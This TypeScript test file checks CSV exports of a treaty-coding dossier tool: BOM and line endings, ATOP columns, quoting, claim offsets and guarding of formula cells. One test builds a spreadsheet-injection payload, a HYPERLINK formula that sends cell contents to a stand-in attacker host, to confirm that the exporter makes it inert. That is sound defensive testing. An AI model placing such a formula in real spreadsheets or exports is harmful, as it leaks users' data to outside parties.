// The CSV exports read back with a CSV parser of the kind spreadsheets and data tools use (csv-parse): every
// row and column where a researcher expects it, offsets that point at the text, hostile cells made inert.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { parse } from 'csv-parse/sync';
import { sampleDossier } from '../../test/fixtures/export/sample-dossier.ts';
import type { Dossier } from '../types.ts';
import { ATOP_COLUMNS, CLAIM_COLUMNS, textCell, toAtopCsv, toClaimsCsv } from './csv.ts';

type Row = Record<string, string>;

/** As a spreadsheet reads the file: BOM dropped, header row naming the columns. */
function rows(csv: string): Row[] {
  return parse(csv, { bom: true, columns: true, relax_column_count: false });
}

function header(csv: string): string[] {
  return parse(csv, { bom: true, to_line: 1 })[0];
}

test('both files start with a UTF-8 byte-order mark and end their lines with CRLF (what Excel needs to read accents and rows)', () => {
  for (const csv of [toAtopCsv(sampleDossier), toClaimsCsv(sampleDossier)]) {
    assert.ok(csv.startsWith('\uFEFF'));
    assert.ok(csv.endsWith('\r\n'));
    assert.equal(csv.replaceAll('\r\n', '').includes('\r'), false);
  }
});

test('atop-csv: one row per agreement, headed by the ATOP variable names with our evidence columns beside each', () => {
  const csv = toAtopCsv(sampleDossier);
  const names = header(csv);
  assert.deepEqual(names, [...ATOP_COLUMNS]);
  for (const v of ['DEFENSE', 'OFFENSE', 'NEUTRAL', 'NONAGG', 'CONSUL']) {
    assert.ok(names.includes(v), v);
    for (const suffix of ['articles', 'claims', 'conditions', 'basis']) assert.ok(names.includes(`${v}_${suffix}`), `${v}_${suffix}`);
  }
  const all = rows(csv);
  assert.equal(all.length, 1);
  const [row] = all;
  assert.equal(row.agreement, 'a1');
  assert.equal(row.title, sampleDossier.agreements[0].title);
  assert.equal(row.parties, 'Aurelia; Brennmark');
  assert.equal(row.signed, '2030-09-12');
  assert.equal(row.signed_place, 'Veltrava');
  assert.equal(row.article_count, '9');
  assert.equal(row.status, 'Not yet in force');
  assert.equal(row.latest_step, 'instruments-exchanged');
  assert.equal(row.latest_date, '2031-01-15');
  assert.equal(row.duration, 'indefinite');
});

test('atop-csv codes 1, 0 and blank for unknown, and names the articles and claims behind each code', () => {
  const [row] = rows(toAtopCsv(sampleDossier));
  assert.equal(row.DEFENSE, '1');
  assert.equal(row.DEFENSE_articles, '4');
  assert.equal(row.DEFENSE_claims, 'c4; c18');
  assert.equal(row.DEFENSE_conditions, 'an armed attack on either party; in accordance with Article 51 of the UN Charter');
  assert.equal(row.OFFENSE, '0');
  assert.equal(row.OFFENSE_basis, 'no source describes joint offensive action');
  assert.equal(row.NEUTRAL, '', 'unknown is a missing value, not 0');
  assert.equal(row.NONAGG, '1');
  assert.equal(row.NONAGG_articles, '2');
  assert.equal(row.CONSUL, '1');
  assert.equal(row.CONSUL_articles, '5');
  assert.equal(row.no_territory_use, '1');
  assert.equal(row.no_territory_use_articles, '6');
  assert.equal(row.no_competing_commitments, '');
});

test('atop-csv: a pile of two agreements gives two rows, and an agreement in force says so', () => {
  const d: Dossier = structuredClone(sampleDossier);
  const second = structuredClone(d.agreements[0]);
  second.id = 'a2';
  second.title = 'Fisheries Accord, with "quotes", commas; and a\nline break';
  second.lifecycle.push({ step: 'entered-into-force', date: '2031-02-14', party: null, body: null, ref: null, claims: [], docs: [] });
  d.agreements.push(second);
  const all = rows(toAtopCsv(d));
  assert.deepEqual(
    all.map((r) => r.agreement),
    ['a1', 'a2'],
  );
  assert.equal(all[1].title, second.title, 'quoting keeps commas, quotes and line breaks inside one cell');
  assert.equal(all[1].status, 'In force');
  assert.equal(all[1].entered_into_force, '2031-02-14');
});

test('claims-csv: one row per claim whose offsets cut its text out of the document body', () => {
  const csv = toClaimsCsv(sampleDossier);
  assert.deepEqual(header(csv), [...CLAIM_COLUMNS]);
  const all = rows(csv);
  assert.equal(all.length, sampleDossier.claims.length);
  const bodies = new Map(sampleDossier.documents.map((d) => [d.id, d.body]));
  for (const row of all) {
    // A cell a spreadsheet would run as a formula carries a leading apostrophe; the rest is the text as is.
    const text = row.text.startsWith("'-") ? row.text.slice(1) : row.text;
    assert.equal(bodies.get(row.doc)!.slice(Number(row.start), Number(row.end)), text, row.claim);
  }
  const c20 = all.find((r) => r.claim === 'c20')!;
  assert.equal(c20.file, 'reports/apr-factbox.txt');
  assert.equal(c20.dates, '2030-10; 2030-11-20; 2030-11-28');
  assert.equal(c20.parties, 'Aurelia');
  const c9 = all.find((r) => r.claim === 'c9')!;
  assert.equal(c9.kind, 'quote');
  assert.equal(c9.speaker, 'Ilona Marr');
  assert.equal(all.find((r) => r.claim === 'c4')!.articles, '4');
  assert.equal(all.find((r) => r.claim === 'c1')!.kind, 'heading');
});

test('claims-csv: hostile text stays one inert cell', () => {
  const d: Dossier = structuredClone(sampleDossier);
  const doc = d.documents[0];
  const formula = '=HYPERLINK("http://attacker.example/?q="&A1,"click")';
  doc.body += `\n${formula}`;
  d.claims.push({ ...d.claims[0], id: 'c99', start: doc.body.length - formula.length, end: doc.body.length, text: formula, speaker: '@someone' });
  const row = rows(toClaimsCsv(d)).find((r) => r.claim === 'c99')!;
  assert.equal(row.text, `'${formula}`);
  assert.equal(row.speaker, "'@someone");
  assert.equal(row.start, String(doc.body.length - formula.length), 'numbers we write are never guarded');
});

test('textCell guards the characters spreadsheets start formulas with, and nothing else', () => {
  for (const s of ['=1+1', '+1', '-1', '@SUM(A1)', '\tx', '\rx']) assert.equal(textCell(s), `'${s}`);
  for (const s of ['Article 4', "'quoted", '1998', 'Ратификация']) assert.equal(textCell(s), s);
  assert.equal(textCell(null), '');
});
